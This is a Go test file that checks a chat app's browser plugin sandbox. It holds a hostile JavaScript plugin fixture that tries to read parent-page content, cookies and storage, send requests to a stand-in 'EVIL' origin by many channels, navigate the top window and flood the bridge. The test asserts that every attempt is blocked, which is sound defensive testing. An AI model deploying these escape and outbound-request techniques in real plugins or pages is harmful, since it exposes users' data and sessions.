package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/catnest/catnest/internal/browsertest"
	"github.com/catnest/catnest/internal/testutil"
	"github.com/catnest/catnest/plugins"
)

// meshOf runs a rendezvous and the named nodes in this process over real
// WebRTC on loopback, until the test ends.
func meshOf(t *testing.T, names ...string) map[string]*node {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := ln.Addr().(*net.TCPAddr).Port
	ln.Close()
	var wg sync.WaitGroup
	t.Cleanup(func() { cancel(); wg.Wait() })
	wg.Go(func() {
		if err := run(ctx, []string{"signal", "--host", "127.0.0.1", "--port", fmt.Sprint(port), "--allow-discovery"}, io.Discard, io.Discard); err != nil {
			t.Errorf("signal: %v", err)
		}
	})
	signalURL := fmt.Sprintf("http://127.0.0.1:%d/", port)
	nodes := map[string]*node{}
	for _, name := range names {
		n, err := newNode(ServeConfig{Data: filepath.Join(t.TempDir(), name), HTTP: "127.0.0.1:0", SignalURL: signalURL,
			SignalKey: "peerjs", Name: name, LoopbackOnly: true}, newLogger(false).With("test", name))
		if err != nil {
			t.Fatal(err)
		}
		nodes[name] = n
		wg.Go(func() {
			if err := n.run(ctx); err != nil {
				t.Errorf("%s: %v", name, err)
			}
		})
	}
	return nodes
}

// echoPlugin answers "ping …" with "pong: ping …" in the same channel.
const echoPlugin = `// ==CatnestPlugin==
// @name        Echo
// @description Answers ping with pong.
// @version     1.0.0
// @permissions chat-read chat-write
// ==/CatnestPlugin==
export default class Echo {
  constructor(api) { this.api = api; }
  onChatMessage(m) {
    if (!m.mine && m.text.startsWith('ping')) this.api.chat.post(m.channel, 'pong: ' + m.text);
  }
}
`

// hostilePlugin tries everything a plugin must not do, writes what came
// of each attempt to its storage, then floods the bridge and tries to
// navigate its frame away. EVIL is an origin that counts the requests
// that reach it.
const hostilePlugin = `// ==CatnestPlugin==
// @name        Totally harmless
// @description Tries to escape its sandbox.
// @version     6.6.6
// @permissions chat-read storage
// ==/CatnestPlugin==
const EVIL = '%s';
export default class Hostile {
  constructor(api) { this.api = api; }
  async start() {
    const r = {};
    const sync = (name, fn) => { try { const v = fn(); r[name] = v ? 'OPEN: ' + String(v).slice(0, 80) : 'blocked'; } catch (e) { r[name] = 'blocked'; } };
    const async_ = async (name, fn) => { try { const v = await fn(); r[name] = v ? 'OPEN: ' + String(v).slice(0, 80) : 'blocked'; } catch (e) { r[name] = 'blocked'; } };
    const event = (name, make) => new Promise((done) => {
      const timer = setTimeout(() => { r[name] = 'blocked'; done(); }, 3000);
      try {
        make(() => { clearTimeout(timer); r[name] = 'OPEN'; done(); }, () => { clearTimeout(timer); r[name] = 'blocked'; done(); });
      } catch (e) { clearTimeout(timer); r[name] = 'blocked'; done(); }
    });
    sync('parent.document', () => parent.document.title || 'read');
    sync('top.document', () => top.document.body.innerHTML || 'read');
    sync('parent.localStorage', () => parent.localStorage.length + 1);
    sync('localStorage', () => localStorage.length + 1);
    sync('sessionStorage', () => sessionStorage.length + 1);
    sync('cookie', () => document.cookie || 'read');
    sync('indexedDB', () => indexedDB.open('x') && 'opened');
    await async_('fetch /api', async () => (await fetch('/api/channels')).status);
    await async_('fetch parent origin', async () => (await fetch(new URL('/api/channels', document.referrer || location.href).href)).status);
    await async_('post /api chat', async () => (await fetch('/api/plugins/x/chat', { method: 'POST', body: '{}' })).status);
    await async_('fetch other origin', async () => (await fetch(EVIL + '/fetch')).status);
    await event('xhr', (ok, bad) => { const x = new XMLHttpRequest(); x.open('GET', EVIL + '/xhr'); x.onload = ok; x.onerror = bad; x.send(); });
    await event('websocket', (ok, bad) => { const w = new WebSocket(EVIL.replace('http', 'ws') + '/ws'); w.onopen = ok; w.onerror = bad; });
    await event('image', (ok, bad) => { const i = new Image(); i.onload = ok; i.onerror = bad; i.src = EVIL + '/img'; });
    await event('eventsource', (ok, bad) => { const e = new EventSource(EVIL + '/sse'); e.onopen = ok; e.onerror = () => { e.close(); bad(); }; });
    sync('beacon', () => { navigator.sendBeacon(EVIL + '/beacon', 'x'); return false; }); // queued or not: the other origin counts
    sync('popup', () => window.open(EVIL + '/popup'));
    sync('top navigation', () => { top.location.href = EVIL + '/top'; return top.location.href.startsWith(EVIL) && 'navigated'; });
    sync('form', () => { const f = document.createElement('form'); f.action = EVIL + '/form'; f.method = 'post'; document.body.append(f); f.submit(); return false; });
    sync('nested frame', () => { const f = document.createElement('iframe'); f.src = EVIL + '/frame'; document.body.append(f); return false; });
    sync('stylesheet', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = EVIL + '/css'; document.head.append(l); return false; });
    sync('eval', () => eval('1 + 1'));
    const chans = await this.api.chat.channels();
    await async_('chat post without chat-write', async () => { await this.api.chat.post(chans[0].id, 'hostile was here'); return 'posted'; });
    await async_('panel without ui-panel', async () => { await this.api.ui.showPanel({ height: 400 }); return 'shown'; });
    await this.api.storage.set('report', JSON.stringify(r));
    for (let i = 0; i < 200000; i++) this.api.log('flood ' + i);
    location.href = EVIL + '/self';
  }
}
`

// TestBrowserPlugins runs three real nodes. Alice publishes two plugins;
// in bob's web UI (Chromium) they show in the market and install through
// the grant dialog. Echo receives a chat message event and, with
// chat-write, posts a reply that carol sees. The hostile plugin tries to
// read the page, its storage and cookies, call the API, reach another
// origin in every way a page can, navigate the top window, open a
// pop-up, post to chat without the permission, flood the bridge and
// navigate away: every attempt fails, nothing reaches the other origin,
// it is stopped, and the UI and Echo go on working.
func TestBrowserPlugins(t *testing.T) {
	if testing.Short() {
		t.Skip("starts a mesh and a browser")
	}
	var evilHits atomic.Int64
	var evilMu sync.Mutex
	var evilPaths []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		evilHits.Add(1)
		evilMu.Lock()
		evilPaths = append(evilPaths, r.URL.Path)
		evilMu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Write([]byte("ok"))
	}))
	defer evil.Close()

	nodes := meshOf(t, "alice", "bob", "carol")
	alice, bob, carol := nodes["alice"], nodes["bob"], nodes["carol"]
	ctx := context.Background()
	lobby, err := alice.chat.CreateChannel(ctx, "lobby", false)
	if err != nil {
		t.Fatal(err)
	}
	joinSoon(t, bob, lobby.ID)
	joinSoon(t, carol, lobby.ID)

	publish := func(src string) plugins.Entry {
		t.Helper()
		req, _ := http.NewRequest(http.MethodPost, alice.url+"api/plugins/publish", strings.NewReader(src))
		req.Header.Set("X-API-Key", alice.apiKey)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var e struct {
			ID        string `json:"id"`
			Name      string `json:"name"`
			Publisher string `json:"publisher"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&e); err != nil || resp.StatusCode != http.StatusOK || e.Publisher != string(alice.mesh.ID()) {
			t.Fatalf("publish: %s %+v %v", resp.Status, e, err)
		}
		ps, _ := alice.plugins.Published(ctx)
		for _, p := range ps {
			if p.ID.String() == e.ID {
				return p
			}
		}
		t.Fatalf("%s is not published", e.ID)
		return plugins.Entry{}
	}
	echo := publish(echoPlugin)
	hostile := publish(fmt.Sprintf(hostilePlugin, evil.URL))

	bctx := browsertest.NewFor(t, 3*time.Minute)
	if err := chromedp.Do(bctx, chromedp.Navigate(bob.url+"#/plugins")); err != nil {
		t.Fatal(err)
	}
	const wait = 60 * time.Second
	install := func(e plugins.Entry) {
		t.Helper()
		card := fmt.Sprintf(`#plugins-market li[data-id="%s"][data-publisher="%s"] button[data-act="install"]`, e.ID, alice.mesh.ID())
		clickSel(t, bctx, card)
		clickSel(t, bctx, `#plugin-grant-ok`)
		testutil.WaitFor(t, wait, e.Name+" installed on bob", func() bool {
			all, _ := bob.plugins.Installed(ctx)
			for _, p := range all {
				if p.ID == e.ID && p.Enabled && len(p.Granted) == 2 {
					return true
				}
			}
			return false
		})
	}
	install(echo)
	clickSel(t, bctx, `#plugins-tab-installed`)
	browsertest.Until(t, bctx, wait, fmt.Sprintf(`document.querySelector('#plugins-installed li[data-id="%s"]').dataset.state === "running"`, echo.ID))

	// A chat message reaches Echo, whose reply carol sees.
	pingPong := func(text string) {
		t.Helper()
		if _, err := alice.chat.Post(ctx, lobby.ID, text); err != nil {
			t.Fatal(err)
		}
		testutil.WaitFor(t, wait, "carol to see bob's pong to "+text, func() bool {
			ms, _ := carol.chat.Messages(ctx, lobby.ID, time.Time{}, 100)
			for _, m := range ms {
				if m.Author == bob.mesh.ID() && m.Text == "pong: "+text {
					return true
				}
			}
			return false
		})
	}
	pingPong("ping 1")

	clickSel(t, bctx, `#plugins-tab-market`)
	install(hostile)
	var report map[string]string
	testutil.WaitFor(t, wait, "the hostile plugin's report", func() bool {
		d, err := bob.plugins.Data(ctx, hostile.ID)
		return err == nil && d["report"] != "" && json.Unmarshal([]byte(d["report"]), &report) == nil
	})
	for _, attempt := range []string{"parent.document", "top.document", "parent.localStorage", "localStorage", "sessionStorage",
		"cookie", "indexedDB", "fetch /api", "fetch parent origin", "post /api chat", "fetch other origin", "xhr", "websocket",
		"image", "eventsource", "beacon", "popup", "top navigation", "form", "nested frame", "stylesheet", "eval",
		"chat post without chat-write", "panel without ui-panel"} {
		if got, ok := report[attempt]; !ok || got != "blocked" {
			t.Errorf("%s: %q, want blocked", attempt, got)
		}
	}
	// The flood (or the navigation after it) stops the plugin.
	clickSel(t, bctx, `#plugins-tab-installed`)
	browsertest.Until(t, bctx, wait, fmt.Sprintf(`document.querySelector('#plugins-installed li[data-id="%s"]').dataset.state === "stopped"
		&& document.querySelector('iframe[data-plugin="%s"]') === null`, hostile.ID, hostile.ID))
	// The UI stays responsive: the views switch, and Echo still answers.
	clickSel(t, bctx, `.nav-link[data-view="chat"]`)
	browsertest.Until(t, bctx, wait, fmt.Sprintf(`document.querySelector('.chan[data-id="%s"]') !== null && location.href.startsWith(%q)`, lobby.ID, bob.url))
	pingPong("ping 2")
	ms, _ := carol.chat.Messages(ctx, lobby.ID, time.Time{}, 100)
	for _, m := range ms {
		if strings.Contains(m.Text, "hostile") {
			t.Errorf("the hostile plugin posted: %+v", m)
		}
	}
	evilMu.Lock()
	defer evilMu.Unlock()
	if n := evilHits.Load(); n != 0 {
		t.Errorf("%d requests reached the other origin: %v", n, evilPaths)
	}
}
